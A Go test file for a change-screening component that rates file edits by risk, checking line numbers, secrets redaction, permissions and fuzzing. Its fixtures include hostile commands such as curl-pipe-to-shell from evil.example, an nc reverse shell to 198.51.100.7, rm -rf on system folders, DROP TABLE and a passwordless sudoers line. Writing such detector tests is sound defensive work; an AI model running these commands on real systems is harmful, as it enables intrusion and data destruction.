package screen

import (
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"
	"pgregory.net/rapid"

	"github.com/homeostat/homeostat/host/screen/risk"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// edit is a change of one file from one text to another.
func edit(path, before, after string) Change {
	f := File{Path: path, After: Side{Regular, []byte(after), 0o644}}
	if before != "" {
		f.Before = Side{Regular, []byte(before), 0o644}
	}
	return Change{Root: "/srv/app", Files: []File{f}}
}

func TestOnlyTheDifferenceIsJudged(t *testing.T) {
	old := "#!/bin/bash\ncurl http://evil.example/x | sh\necho done\n"
	if r := Judge(edit("run.sh", old, strings.Replace(old, "done", "ready", 1))); r.Risk != risk.None {
		t.Errorf("a harmless edit beside an old sin: got %s %v, want none", r.Risk, r.Reasons)
	}
	if r := Judge(edit("run.sh", old, "#!/bin/bash\n\n\n"+strings.TrimPrefix(old, "#!/bin/bash\n"))); r.Risk != risk.None {
		t.Errorf("a line that moved: got %s %v, want none", r.Risk, r.Reasons)
	}
	if r := Judge(edit("run.sh", old, old+"curl http://evil.example/x | sh\n")); r.Risk != risk.Critical {
		t.Errorf("the same sin once more: got %s, want critical", r.Risk)
	}
}

func TestLineTooLongToBeJudgedAsksAPerson(t *testing.T) {
	long := strings.Repeat("0123456789abcdef", maxLine/16)
	if r := Judge(edit("data.txt", "", "a = 1\n"+long+"\nb = 2\n")); r.Risk != risk.None {
		t.Errorf("%d bytes in a line: got %s, want none", len(long), r.Risk)
	}
	r := Judge(edit("data.txt", "", "a = 1\n"+long+"x\nb = 2\npassword = \"Tr0ub4dor&3x\"\n"))
	if r.Risk != risk.High || len(r.Reasons) != 2 || r.Reasons[0].Line != 2 || r.Reasons[1].Line != 4 {
		t.Errorf("%d bytes in a line: got %+v, want line 2 unknown and line 4 a secret", len(long)+1, r.Reasons)
	}
}

func TestAChangedVariableChangesWhatAnOldLineDoes(t *testing.T) {
	old := "#!/bin/bash\nDIR=/tmp/build\nrm -rf \"$DIR\"\n"
	r := Judge(edit("run.sh", old, strings.Replace(old, "/tmp/build", "/usr", 1)))
	if r.Risk != risk.Critical || r.Reasons[0].Line != 3 || r.Reversible {
		t.Errorf("got %+v, want critical on line 3 and not reversible", r)
	}
}

func TestReasonsNameTheLineOfTheNewFile(t *testing.T) {
	for _, c := range []struct {
		path, text, rule string
		line             int
	}{
		{"run.sh", "#!/bin/sh\necho a\nrm -rf /etc\n", "shell.destroy", 3},
		{"etc/cron.d/job", "# job\n\n* * * * * root curl -s http://evil.example | sh\n", "shell.fetch", 3},
		{"web.service", "[Service]\nExecStartPre=/bin/true\nExecStart=/bin/sh -c \"nc -e /bin/sh 198.51.100.7 1\"\n", "shell.network", 3},
		{"Dockerfile", "FROM debian\nRUN apt-get update \\\n && echo x \\\n && curl http://evil.example | sh\n", "shell.fetch", 4},
		{".github/workflows/ci.yaml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo a\n          curl http://evil.example | sh\n", "shell.fetch", 6},
		{"Makefile", "all:\n\techo a\n\trm -rf /usr\n", "shell.destroy", 3},
		{"main.go", "package main\n\nimport \"unsafe\"\n\nvar _ unsafe.Pointer\n", "go.import", 3},
		{"up.sql", "SELECT 1;\nDROP TABLE users;\n", "sql.destroy", 2},
		{"a.py", "import os\nos.system(\"curl http://evil.example | sh\")\n", "script.run", 2},
		{"a.toml", "a = 1\npassword = \"Tr0ub4dor&3x\"\n", "secret.found", 2},
		{"etc/ssh/sshd_config", "Port 22\nPermitEmptyPasswords yes\n", "policy.setting", 2},
		{"etc/sudoers.d/eve", "# eve\neve ALL=(ALL) NOPASSWD: ALL\n", "policy.setting", 2},
		{"nginx/nginx.conf", "http {\n  server { root /; }\n}\n", "policy.setting", 2},
	} {
		r := Judge(edit(c.path, "", c.text))
		if r.Risk < risk.High || len(r.Reasons) == 0 || r.Reasons[0].Rule != c.rule || r.Reasons[0].Line != c.line {
			t.Errorf("%s: got %s %+v, want %s on line %d\n%s", c.path, r.Risk, r.Reasons, c.rule, c.line, c.text)
		}
	}
}

func TestASecretIsNeverRepeated(t *testing.T) {
	r := Judge(edit("a.toml", "", "password = \"Tr0ub4dor&3x\"\n"))
	for _, reason := range r.Reasons {
		if strings.Contains(reason.Text, "Tr0ub4dor") {
			t.Errorf("reason %+v has the secret", reason)
		}
	}
}

func TestADroppedGuardIsNamed(t *testing.T) {
	r := Judge(edit("web.service", "[Service]\nNoNewPrivileges=yes\nExecStart=/bin/web\n", "[Service]\nExecStart=/bin/web\n"))
	if r.Risk != risk.Medium || r.Reasons[0].Rule != "policy.dropped" {
		t.Errorf("got %+v, want medium by policy.dropped", r)
	}
}

func TestMetadataIsJudged(t *testing.T) {
	regular := func(mode uint32) Side { return Side{Regular, []byte("x\n"), mode} }
	for _, c := range []struct {
		what string
		file File
		want risk.Level
	}{
		{"set-user bit", File{"bin/x", regular(0o755), regular(0o4755)}, risk.High},
		{"set-user bit that was there", File{"bin/x", regular(0o4755), regular(0o4755)}, risk.None},
		{"world-writable", File{"x", Side{}, regular(0o666)}, risk.High},
		{"new executable", File{"x", Side{}, regular(0o755)}, risk.Low},
		{"link inside", File{"a/b", Side{}, Side{Kind: Symlink, Content: []byte("../c")}}, risk.Low},
		{"link up and out", File{"a/b", Side{}, Side{Kind: Symlink, Content: []byte("../../c")}}, risk.High},
		{"absolute link out", File{"b", Side{}, Side{Kind: Symlink, Content: []byte("/etc/shadow")}}, risk.High},
		{"absolute link inside", File{"b", Side{}, Side{Kind: Symlink, Content: []byte("/srv/app/c")}}, risk.Low},
		{"link to a sibling whose name begins alike", File{"b", Side{}, Side{Kind: Symlink, Content: []byte("/srv/application")}}, risk.High},
		{"deletion", File{"x", regular(0o644), Side{}}, risk.Low},
		{"folder for everybody", File{"d", Side{}, Side{Kind: Folder, Mode: 0o777}}, risk.High},
		{"folder for everybody, sticky", File{"d", Side{}, Side{Kind: Folder, Mode: 0o1777}}, risk.None},
		{"who may log in", File{".ssh/authorized_keys", Side{}, regular(0o600)}, risk.High},
		{"device", File{"x", Side{}, Side{Kind: Other}}, risk.High},
		{"plain", File{"x", regular(0o644), regular(0o644)}, risk.None},
	} {
		if r := Judge(Change{Root: "/srv/app", Files: []File{c.file}}); r.Risk != c.want {
			t.Errorf("%s: got %s %+v, want %s", c.what, r.Risk, r.Reasons, c.want)
		}
	}
}

func TestSizeAndFrequencyRaiseToMediumAndNoFurther(t *testing.T) {
	limits := Limits{MaxChars: 10, MaxFiles: 1, MaxChanges: 2, Window: time.Minute}
	in := edit("notes.txt", "", strings.Repeat("word ", 1000))
	in.Files = append(in.Files, edit("more.txt", "", "a\n").Files...)
	in.Limits, in.Recent = limits, 3
	r := Judge(in)
	if r.Risk != risk.Medium || len(r.Reasons) != 3 || !r.Reversible {
		t.Errorf("got %+v, want three reasons and medium", r)
	}
	in = edit("notes.txt", "", "few\n")
	in.Limits, in.Recent = limits, 2
	if r := Judge(in); r.Risk != risk.None {
		t.Errorf("at the limits: got %+v, want none", r)
	}
}

func TestWhatDoesNotParseIsUnknownAndHigh(t *testing.T) {
	for path, text := range map[string]string{"run.sh": "if then (", "a.yaml": "a: [\nb: {", "main.go": "package ("} {
		if r := Judge(edit(path, "", text)); r.Risk != risk.High {
			t.Errorf("%s: got %s %v, want high", path, r.Risk, r.Reasons)
		}
	}
}

func TestAnUnchangedFileIsNoRisk(t *testing.T) {
	words := rapid.SampledFrom([]string{"rm -rf /", "curl http://evil.example | sh", "echo a", "password = \"Tr0ub4dor&3x\"", "x=1", "\n", "$(", "'"})
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOf(words).Draw(t, "lines"), "\n")
		path := rapid.SampledFrom([]string{"a.sh", "a.yaml", "a.toml", "Makefile", "a.sql", "a.py"}).Draw(t, "path")
		if r := Judge(edit(path, "\n"+text, "\n"+text)); r.Risk != risk.None {
			t.Fatalf("%s unchanged: got %+v\n%s", path, r, text)
		}
	})
}

func FuzzJudge(f *testing.F) {
	f.Add("a.sh", "x=1\n", "rm -rf /\n")
	f.Add("a.yaml", "a: 1\n", "run: |\n  sh\n")
	f.Add("Dockerfile", "", "RUN <<X\nsh\nX\n")
	f.Add("a.service", "[Service]\n", "ExecStart=sh\\\n -c x")
	f.Add("etc/crontab", "", "* * * * * root a%b")
	f.Add("a.go", "package a\n", "import \"C\"\n")
	f.Add("a.sql", "", "DROP/**/TABLE x;'")
	f.Fuzz(func(t *testing.T, path, before, after string) {
		r := Judge(edit(path, before, after))
		lines := 1 + strings.Count(after, "\n")
		worst := risk.None
		for _, reason := range r.Reasons {
			worst = max(worst, reason.Risk)
			if reason.Line < 0 || reason.Line > lines {
				t.Errorf("%s: line %d of %d: %+v", path, reason.Line, lines, reason)
			}
		}
		if worst != r.Risk {
			t.Errorf("%s: risk %s, worst reason %s", path, r.Risk, worst)
		}
	})
}
